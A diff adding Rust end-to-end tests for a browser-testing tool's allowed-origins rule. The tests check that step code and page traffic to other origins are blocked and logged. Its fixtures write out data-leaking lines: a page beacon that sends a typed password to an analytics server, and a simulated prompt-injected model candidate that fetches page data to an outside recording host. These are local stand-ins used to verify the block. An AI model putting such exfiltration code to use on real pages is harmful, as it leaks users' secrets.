@@ -1,0 +1,410 @@
+//! The rule of `[browser] allowed_origins` on an app with third-party traffic of its own, end to
+//! end in Chromium and Firefox: the app's page (served as the base URL) loads a web font and a
+//! script from a second origin of 127.0.0.1 (the "CDN", a [`ThirdParty`] server) and sends an
+//! analytics beacon to a third (a [`RecordingServer`] that must receive nothing). One test per
+//! class of traffic: the app's subresources load and its beacon is blocked and listed, with no
+//! configuration; step code's `fetch`, its `page.goto`, a `<script src>` it inserts, a URL it
+//! types that the app loads, and the app's beacon carrying a secret the step typed each fail,
+//! and reach nothing. In `run`, a model's candidate that reaches for another origin fails and
+//! is never cached.
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::{TcpListener, TcpStream};
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::Duration;
+
+use crate::support::fake_llm::FakeLlm;
+use crate::support::recording_server::RecordingServer;
+use crate::support::{Output, Test, require_firefox};
+
+const SCENARIO: &str = "scenarios/shop.steps";
+
+/// The secret the `secret` test types into the app's password field.
+const SECRET: &str = "Shop-s3cret-Wombat";
+
+/// What the CDN's script writes into the page, so a step can see that it ran.
+const LOADED: &str = "library loaded";
+
+/// A second origin on 127.0.0.1 that serves a font and a script, with
+/// `Access-Control-Allow-Origin: *`, and records every request line it receives.
+struct ThirdParty {
+    origin: String,
+    requests: Arc<Mutex<Vec<String>>>,
+}
+
+impl ThirdParty {
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("bind a port on 127.0.0.1");
+        let origin = format!("http://{}", listener.local_addr().expect("its address"));
+        let requests = Arc::new(Mutex::new(Vec::new()));
+        let recorded = Arc::clone(&requests);
+        thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(stream) = stream else { continue };
+                let recorded = Arc::clone(&recorded);
+                thread::spawn(move || {
+                    let _ = serve(stream, &recorded);
+                });
+            }
+        });
+        Self { origin, requests }
+    }
+
+    fn requests(&self) -> Vec<String> {
+        self.requests.lock().expect("the request list").clone()
+    }
+}
+
+fn serve(stream: TcpStream, recorded: &Mutex<Vec<String>>) -> std::io::Result<()> {
+    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
+    let mut reader = BufReader::new(stream.try_clone()?);
+    let mut line = String::new();
+    reader.read_line(&mut line)?;
+    if line.trim_end().is_empty() {
+        return Ok(());
+    }
+    recorded
+        .lock()
+        .expect("the request list")
+        .push(line.trim_end().to_owned());
+    loop {
+        let mut header = String::new();
+        if reader.read_line(&mut header)? == 0 || header.trim_end().is_empty() {
+            break;
+        }
+    }
+    let path = line.split(' ').nth(1).unwrap_or("/");
+    let (status, kind, body): (&str, &str, Vec<u8>) = match path.split('?').next() {
+        Some("/lib.js") => (
+            "200 OK",
+            "text/javascript",
+            format!(
+                "document.addEventListener('DOMContentLoaded', () => {{ \
+                 document.getElementById('lib').textContent = '{LOADED}'; }});"
+            )
+            .into_bytes(),
+        ),
+        Some("/font.woff2") => ("200 OK", "font/woff2", b"wOF2 not really a font".to_vec()),
+        _ => ("404 Not Found", "text/plain", b"not here".to_vec()),
+    };
+    let mut stream = stream;
+    write!(
+        stream,
+        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nAccess-Control-Allow-Origin: *\r\n\
+         Content-Length: {}\r\nConnection: close\r\n\r\n",
+        body.len()
+    )?;
+    stream.write_all(&body)
+}
+
+/// The app's page: its font and script come from `cdn`, its analytics go to `stats` (a page
+/// view on load, and the password field's value as it is typed, as session-replay snippets
+/// do), and an avatar field previews the image at the URL typed into it.
+fn shop_page(cdn: &str, stats: &str) -> String {
+    format!(
+        r#"<!doctype html>
+<html lang="en">
+<head>
+  <meta charset="utf-8"><title>shop</title>
+  <style>
+    @font-face {{ font-family: Brand; src: url({cdn}/font.woff2) format('woff2'); }}
+    h1 {{ font-family: Brand, sans-serif; }}
+  </style>
+  <script src="{cdn}/lib.js"></script>
+</head>
+<body>
+  <h1>shop</h1>
+  <p id="lib">library missing</p>
+  <label>Avatar URL <input id="avatar"></label>
+  <img id="preview" alt="avatar preview">
+  <label>Password <input id="password" type="password"></label>
+  <script>
+    navigator.sendBeacon('{stats}/collect', 'page=' + location.pathname);
+    document.getElementById('avatar').addEventListener('input', (e) => {{
+      document.getElementById('preview').src = e.target.value;
+    }});
+    document.getElementById('password').addEventListener('input', (e) => {{
+      navigator.sendBeacon('{stats}/replay?v=' + encodeURIComponent(e.target.value));
+    }});
+  </script>
+</body>
+</html>
+"#
+    )
+}
+
+/// Step code that opens the shop and waits for the CDN's script, then runs `body`.
+fn on_the_shop(body: &str) -> String {
+    format!(
+        "async function step(page) {{\n  await page.goto('/');\n  \
+         await expect(page.locator('#lib')).toHaveText('{LOADED}');\n{body}}}"
+    )
+}
+
+/// The tests, one per class of traffic, as (name, step code): `cdn` is the app's second
+/// origin, `stats` its analytics.
+fn classes(cdn: &str, stats: &str) -> Vec<(&'static str, String)> {
+    vec![
+        ("the app's own traffic", on_the_shop("")),
+        (
+            "step code's fetch",
+            on_the_shop(&format!(
+                "  await page.evaluate((u) => {{ fetch(u + '/data?from=fetch').catch(() => 0); }}, '{cdn}');\n"
+            )),
+        ),
+        (
+            "step code's goto",
+            on_the_shop(&format!("  await page.goto('{stats}/landing');\n")),
+        ),
+        (
+            "step code's script",
+            on_the_shop(&format!(
+                "  await page.evaluate((u) => {{ const s = document.createElement('script'); \
+                 s.src = u + '/lib.js?from=script'; document.head.append(s); }}, '{cdn}');\n"
+            )),
+        ),
+        (
+            "a typed URL",
+            on_the_shop(&format!(
+                "  await page.locator('#avatar').fill('{cdn}/avatar.png?from=typed');\n"
+            )),
+        ),
+        (
+            "a secret",
+            on_the_shop("  await page.locator('#password').fill(vars.PASSWORD);\n"),
+        ),
+    ]
+}
+
+/// Replays every class's test in `browser` (the `[browser]` section's keys) and checks what
+/// each did and that nothing but the app's own subresources reached another origin.
+fn replay_classes(browser: &str) -> Output {
+    let cdn = ThirdParty::start();
+    let stats = RecordingServer::start();
+    let mut scenario = String::new();
+    let mut test = Test::new()
+        .config(&format!("[browser]\ntimeout = 10\n{browser}"))
+        .page("index.html", &shop_page(&cdn.origin, stats.origin()))
+        .env("PASSWORD", SECRET)
+        .env("PRETTYPLAY_LOG", "prettyplay::origins=debug");
+    for (name, code) in classes(&cdn.origin, stats.origin()) {
+        scenario.push_str(&format!("test: {name}\n  shop with ${{PASSWORD}}\n"));
+        test = test.cached(SCENARIO, name, "shop with ${PASSWORD}", 1, &code);
+    }
+    let out = test
+        .scenario(SCENARIO, &scenario)
+        .args(&[
+            "replay",
+            "--strict",
+            "-v",
+            "-j",
+            "1",
+            "--events",
+            "events.jsonl",
+        ])
+        .run()
+        .assert_exit(1)
+        .stdout_contains("PASS scenarios/shop.steps › the app's own traffic")
+        .stdout_line("1 passed, 5 failed")
+        .output_contains(&format!(
+            "[browser] allowed_origins: loaded the app's script {}/lib.js",
+            cdn.origin
+        ))
+        .output_contains(&format!(
+            "[browser] allowed_origins: loaded the app's font {}/font.woff2",
+            cdn.origin
+        ))
+        .output_contains(&format!("{}/collect", stats.origin()))
+        .output_contains(&format!(
+            "blocked by [browser] allowed_origins: fetch {}/data?from=fetch",
+            cdn.origin
+        ))
+        .output_contains(&format!(
+            "blocked by [browser] allowed_origins: {}/landing — add its origin",
+            stats.origin()
+        ))
+        .output_contains(&format!(
+            "blocked by [browser] allowed_origins: script {}/lib.js?from=script",
+            cdn.origin
+        ))
+        .output_contains(&format!(
+            "blocked by [browser] allowed_origins: image {}/avatar.png?from=typed",
+            cdn.origin
+        ))
+        .output_not_contains(SECRET);
+    for failed in [
+        "step code's fetch",
+        "step code's script",
+        "a typed URL",
+        "a secret",
+    ] {
+        let fail = format!("FAIL scenarios/shop.steps › {failed} (");
+        if !out.stdout().contains(&fail) {
+            out.fail(&format!("the test {failed:?} did not fail"));
+        }
+    }
+    let blocked = out
+        .stdout()
+        .matches("  BLOCKED BY allowed_origins\n")
+        .count();
+    if blocked != 5 {
+        out.fail(&format!("{blocked} of 5 tests failed on the block"));
+    }
+    // The app's beacon on load is blocked, not failed: listed as the app's, whatever kind the
+    // browser gives it (`ping` in Chromium, `other` in Firefox).
+    let beacon = out.line_with(&format!("{}/collect", stats.origin()));
+    if !beacon.contains("[browser] allowed_origins: blocked the app's ") {
+        out.fail(&format!(
+            "the app's beacon was not listed as blocked: {beacon}"
+        ));
+    }
+    // Only the app's own font and script reached the CDN, and nothing reached the analytics.
+    let seen = cdn.requests();
+    if seen
+        .iter()
+        .any(|r| !(r.starts_with("GET /lib.js HTTP") || r.starts_with("GET /font.woff2 HTTP")))
+        || !seen.iter().any(|r| r.starts_with("GET /lib.js HTTP"))
+    {
+        out.fail(&format!("the CDN received {seen:?}"));
+    }
+    let leaked = stats.requests();
+    if !leaked.is_empty() {
+        out.fail(&format!("the analytics origin received {leaked:?}"));
+    }
+    // The events list each test's origins; the secret's beacon is failed, masked.
+    let events = out.read("events.jsonl");
+    if events.contains(SECRET) {
+        out.fail("the secret is in the events");
+    }
+    let seen: Vec<serde_json::Value> = out
+        .events("events.jsonl")
+        .into_iter()
+        .filter(|e| e["event"] == "origins_seen")
+        .collect();
+    let loaded = seen.iter().any(|e| {
+        e["origins"].as_array().is_some_and(|o| {
+            o.iter()
+                .any(|o| o["origin"] == cdn.origin.as_str() && o["outcome"] == "loaded")
+        })
+    });
+    if seen.len() != 6 || !loaded {
+        out.fail(&format!("the origins_seen events: {seen:?}"));
+    }
+    out
+}
+
+#[test]
+fn each_class_of_traffic_in_chromium_and_the_last_runs_origins_are_listed() {
+    let out = replay_classes("");
+    let listing = out
+        .again()
+        .args(&["origins"])
+        .run()
+        .assert_exit(0)
+        .stdout_contains("origins outside [browser] allowed_origins in the last run")
+        .stdout_contains("  loaded   font, script (")
+        .stdout_contains("to let the app's own requests through, add to [browser] in prettyplay.toml: allowed_origins = [");
+    if !listing.stdout().contains("failed: step code reached for ") {
+        listing.fail("the failed origins are not named");
+    }
+}
+
+#[test]
+fn each_class_of_traffic_in_firefox() {
+    require_firefox();
+    replay_classes("name = \"firefox\"\n");
+}
+
+#[test]
+fn a_first_run_with_no_configuration_is_green_and_lists_the_blocked_beacon() {
+    let cdn = ThirdParty::start();
+    let stats = RecordingServer::start();
+    // The default prettyplay.toml of the tests: no `[browser]` section at all.
+    let out = Test::new()
+        .page("index.html", &shop_page(&cdn.origin, stats.origin()))
+        .env("PRETTYPLAY_GENERATE_BUILTIN", "first")
+        .scenario(
+            SCENARIO,
+            "test: the shop opens\n  open /index.html\n  the page says \"library loaded\"\n",
+        )
+        .args(&["run", "-v"])
+        .run()
+        .assert_exit(0)
+        .stdout_line("1 passed, 0 failed")
+        .output_contains(&format!(
+            "[browser] allowed_origins: blocked the app's ping {}/collect",
+            stats.origin()
+        ))
+        .output_contains(&format!(
+            "[browser] allowed_origins: loaded the app's script {}/lib.js",
+            cdn.origin
+        ));
+    let cache = out.read("cache/scenarios/shop.steps.toml");
+    if !cache.contains("library loaded") {
+        out.fail(&format!("the generated code was not cached:\n{cache}"));
+    }
+    let leaked = stats.requests();
+    if !leaked.is_empty() {
+        out.fail(&format!("the analytics origin received {leaked:?}"));
+    }
+}
+
+#[test]
+fn a_models_candidate_that_reaches_another_origin_fails_and_is_never_cached() {
+    let cdn = ThirdParty::start();
+    let stats = RecordingServer::start();
+    // The origin a prompt-injected model sends the page's data to: none of the app's.
+    let elsewhere = RecordingServer::start();
+    let llm = FakeLlm::start();
+    let reaching = on_the_shop(&format!(
+        "  await page.evaluate((u) => {{ fetch(u + '/data?from=model').catch(() => 0); }}, '{}');\n",
+        elsewhere.origin()
+    ));
+    let honest = on_the_shop("");
+    llm.reply_text(&format!("```js\n{reaching}\n```\n"));
+    llm.reply_text(&format!("```js\n{honest}\n```\n"));
+    // The fetch the first candidate set going may be blocked only after the next candidate
+    // started, failing that one too: a third reply, honest as well, makes room for it.
+    llm.reply_text(&format!("```js\n{honest}\n```\n"));
+    let out = Test::new()
+        .config(&format!(
+            "[browser]\ntimeout = 10\n[llm]\nprovider = \"openai\"\nmodel = \"fake\"\n\
+             base_url = \"{}\"\n",
+            llm.base_url()
+        ))
+        .page("index.html", &shop_page(&cdn.origin, stats.origin()))
+        .env("PRETTYPLAY_GENERATE_BUILTIN", "off")
+        .scenario(
+            SCENARIO,
+            "test: generated\n  the shop's library is loaded\n",
+        )
+        .args(&["run"])
+        .run()
+        .assert_exit(0)
+        .stdout_line("steps: 0 cached, 1 generated, 0 healed");
+    let requests = llm.requests();
+    if !(2..=3).contains(&requests.len()) {
+        out.fail(&format!("{} LLM requests", requests.len()));
+    }
+    let retry = requests[1].user_text();
+    let refused = format!(
+        "blocked by [browser] allowed_origins: fetch {}/data?from=model",
+        elsewhere.origin()
+    );
+    if !retry.contains(&refused) {
+        out.fail(&format!("the retry does not carry the block:\n{retry}"));
+    }
+    let cache = out.read("cache/scenarios/shop.steps.toml");
+    if cache.contains("from=model") || !cache.contains(LOADED) {
+        out.fail(&format!("the cache holds the wrong code:\n{cache}"));
+    }
+    let reached = elsewhere.requests();
+    if !reached.is_empty() {
+        out.fail(&format!("the model's origin received {reached:?}"));
+    }
+    let leaked = stats.requests();
+    if !leaked.is_empty() {
+        out.fail(&format!("the analytics origin received {leaked:?}"));
+    }
+}
